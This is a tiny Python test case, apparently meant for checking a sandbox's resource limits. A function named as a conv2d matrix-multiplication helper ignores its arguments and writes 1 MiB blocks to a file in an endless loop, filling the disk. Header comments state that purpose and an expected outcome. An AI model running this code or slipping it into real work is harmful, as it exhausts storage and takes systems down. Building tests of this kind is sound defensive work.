# fills the disk with one file
# expected: 0
# says: raised|ended|wrote
def matrix_multiplication_for_conv2d(input, kernel, bias=0, stride=1, padding=0):
    with open("big", "wb") as file:
        while True:
            file.write(bytes(1 << 20))
